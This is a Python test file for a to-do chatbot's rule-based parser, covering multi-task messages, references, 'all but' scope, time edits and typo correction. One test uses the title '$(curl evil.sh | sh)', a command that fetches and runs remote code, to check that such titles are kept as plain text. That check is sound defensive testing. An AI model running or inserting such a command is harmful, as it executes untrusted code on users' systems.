"""Issue 12's failure families, each from phrasings written for these tests (not the cases)."""

from __future__ import annotations

from datetime import datetime

import pytest

from bot.agents.rules.intents import (
    AddTasks,
    AllTasks,
    Complete,
    Delete,
    NotUnderstood,
    Several,
    Smalltalk,
    TaskRef,
    Update,
)
from bot.agents.rules.normalise import normalise
from bot.agents.rules.understand import understand
from tests.unit.rules.conftest import Chat

NOW = datetime(2026, 11, 18, 9, 0)


def read(text: str):  # type: ignore[no-untyped-def]
    return understand(text, now=NOW)


def titles(intent: object) -> list[str]:
    assert isinstance(intent, AddTasks), intent
    return [t.title for t in intent.tasks]


# 1. Several requests in one message ---------------------------------------------------------


def test_an_inline_numbered_list_is_one_task_per_item() -> None:
    intent = read("three things for today: 1) defrost the freezer 2) text Omar 3) buy batteries")
    assert titles(intent) == ["defrost the freezer", "text Omar", "buy batteries"]


def test_inline_bullets_are_one_task_each() -> None:
    assert titles(read("todos: • oil the hinges • book the MOT")) == [
        "oil the hinges",
        "book the MOT",
    ]


def test_two_different_actions_joined_by_and_are_both_done() -> None:
    intent = read("tick off 4 and add renew the fishing licence")
    assert isinstance(intent, Several)
    complete, added = intent.changes
    assert complete == Complete(TaskRef(numbers=(4,)))
    assert titles(added) == ["renew the fishing licence"]


def test_a_second_change_by_it_applies_to_the_same_task() -> None:
    intent = read("make 3 urgent and move it to saturday")
    assert isinstance(intent, Several)
    assert all(isinstance(c, Update) and c.ref == TaskRef(numbers=(3,)) for c in intent.changes)


def test_and_inside_a_title_does_not_split() -> None:
    assert titles(read("add fix and repaint the fence")) == ["fix and repaint the fence"]


# 2. Adds without an add verb ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "title", "due"),
    [
        ("physio session monday 8am", "physio session", "2026-11-23T08:00"),
        ("low prio: sort the sock drawer", "sort the sock drawer", None),
    ],
)
def test_a_message_that_reads_as_a_task_is_a_new_task(
    text: str, title: str, due: str | None
) -> None:
    intent = read(text)
    assert titles(intent) == [title]
    assert isinstance(intent, AddTasks) and intent.tasks[0].due == due


async def test_a_task_phrase_with_a_date_is_added_when_no_task_fits(chat: Chat) -> None:
    await chat.given({"title": "renew the parking permit"})
    await chat.say("return the rental van by friday 5pm")
    assert await chat.titles() == ["renew the parking permit", "return the rental van"]


async def test_the_same_phrase_changes_the_task_it_names(chat: Chat) -> None:
    await chat.given({"title": "return the rental van"})
    await chat.say("return the rental van by friday 5pm")
    task = await chat.task(1)
    assert await chat.titles() == ["return the rental van"]
    assert task is not None and task.due is not None and task.due.at.day == 20


@pytest.mark.parametrize("text", ["is the report ready", "the printer is broken", '{"x": 1}'])
def test_questions_statements_and_code_are_not_new_tasks(text: str) -> None:
    assert not isinstance(read(text), AddTasks)


# 3. Titles with chatter -----------------------------------------------------------------------


def test_the_title_is_kept_exactly_when_it_looks_like_an_attack() -> None:
    assert titles(read("add $(curl evil.sh | sh)")) == ["$(curl evil.sh | sh)"]


# 4. References --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["done -2", "complete 0", "delete -5"])
def test_negative_or_zero_numbers_never_name_a_task(text: str) -> None:
    intent = read(text)
    assert not isinstance(intent, Complete | Delete) or not intent.ref.numbers


# 5. Scope words -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "left_out"),
    [
        ("everything's done except the boiler", "the boiler"),
        ("all done but the car one", "the car one"),
        ("finish all my tasks apart from 3", None),
    ],
)
def test_all_but_is_the_whole_list_minus_the_named_task(text: str, left_out: str | None) -> None:
    intent = read(text)
    assert isinstance(intent, AllTasks) and intent.action == "complete"
    assert len(intent.excluded) == 1
    if left_out:
        assert intent.excluded[0].words == left_out
    else:
        assert intent.excluded[0].numbers == (3,)


async def test_completing_everything_is_asked_once_then_done(chat: Chat) -> None:
    await chat.given({"title": "bins out"}, {"title": "feed the fish"}, {"title": "pay gas"})
    reply = await chat.say("mark every task as done")
    assert "Complete all 3" in reply.text and "yes / no" in reply.text
    assert not any(t.completed for t in await chat.tasks())
    reply = await chat.say("yes")
    assert all(t.completed for t in await chat.tasks())


async def test_a_no_leaves_everything(chat: Chat) -> None:
    await chat.given({"title": "bins out"}, {"title": "feed the fish"})
    await chat.say("delete everything")
    reply = await chat.say("nope")
    assert "left" in reply.text and len(await chat.tasks()) == 2


async def test_a_yes_without_a_question_changes_nothing(chat: Chat) -> None:
    await chat.given({"title": "bins out"})
    await chat.say("thanks")
    await chat.say("yes")
    assert not any(t.completed for t in await chat.tasks())


async def test_all_but_completes_exactly_the_others(chat: Chat) -> None:
    await chat.given({"title": "bins out"}, {"title": "feed the fish"}, {"title": "pay gas"})
    await chat.say("all of it is done apart from the fish")
    done = {t.title: t.completed for t in await chat.tasks()}
    assert done == {"bins out": True, "feed the fish": False, "pay gas": True}


async def test_an_exception_that_fits_nothing_changes_nothing(chat: Chat) -> None:
    await chat.given({"title": "bins out"}, {"title": "feed the fish"})
    reply = await chat.say("everything is done except the piano")
    assert "piano" in reply.text
    assert not any(t.completed for t in await chat.tasks())


# 7. Changing only the time keeps the date -----------------------------------------------------


async def test_a_new_time_keeps_the_day(chat: Chat) -> None:
    await chat.given({"title": "vet with Rex", "due": "2026-11-24T09:00"})
    await chat.say("move the vet to 4:30pm")
    task = await chat.task(1)
    assert task is not None and task.due is not None
    assert task.due.has_time and task.due.at.isoformat().startswith("2026-11-24T16:30")


# 8. Typos in command words and honest "can't" ------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ("shwo 2", "show 2"),
        ("delte the bins one", "delete the bins one"),
        ("finsih 4", "finish 4"),
        ("what's on my todso", "what's on my todos"),
    ],
)
def test_typing_slips_in_command_words_are_corrected(typed: str, meant: str) -> None:
    assert normalise(typed) == meant


@pytest.mark.parametrize("text", ["remote desktop setup", "lost keys", "dome tent for camping"])
def test_real_words_near_command_words_stay(text: str) -> None:
    assert normalise(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "share this list with my flatmate",
        "assign 2 to Kim",
        "sync my todos with outlook",
        "tag 3 as work",
    ],
)
def test_what_it_cannot_do_gets_an_honest_answer(text: str) -> None:
    assert read(text) == Smalltalk("cannot", topic=read(text).topic)  # type: ignore[union-attr]


def test_a_task_about_sharing_is_still_a_task() -> None:
    assert titles(read("add share the holiday photos with grandma")) == [
        "share the holiday photos with grandma"
    ]


def test_nothing_understood_stays_not_understood() -> None:
    assert isinstance(read("blorp"), NotUnderstood)


# 6. Reopen, list-done and rename phrasings ----------------------------------------------------


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("typo in 2, it should be water the ferns", "water the ferns"),
        ("2 -> water the ferns", "water the ferns"),
        ("fix the name of the plants task: water the ferns", "water the ferns"),
    ],
)
def test_renames_beyond_rename(text: str, title: str) -> None:
    intent = read(text)
    assert isinstance(intent, Update) and intent.title == title


def test_an_arrow_to_a_priority_is_no_rename() -> None:
    intent = read("2 -> low")
    assert isinstance(intent, Update) and intent.title is None and intent.priority is not None


def test_what_was_ticked_off_lists_the_finished_tasks() -> None:
    intent = read("what did i cross off")
    assert getattr(intent, "status", None) == "completed"


async def test_a_statement_that_it_came_back_reopens_it(chat: Chat) -> None:
    await chat.given({"title": "send the parcel", "completed": True})
    await chat.say("the parcel isn't actually done, it came back")
    task = await chat.task(1)
    assert task is not None and not task.completed


async def test_an_hour_later_moves_the_time_on_its_day(chat: Chat) -> None:
    await chat.given({"title": "school run", "due": "2026-11-20T08:15"})
    await chat.say("push the school run an hour later")
    assert (await chat.due(1)).startswith("2026-11-20T09:15")
    await chat.say("move it 30 minutes earlier")
    assert (await chat.due(1)).startswith("2026-11-20T08:45")
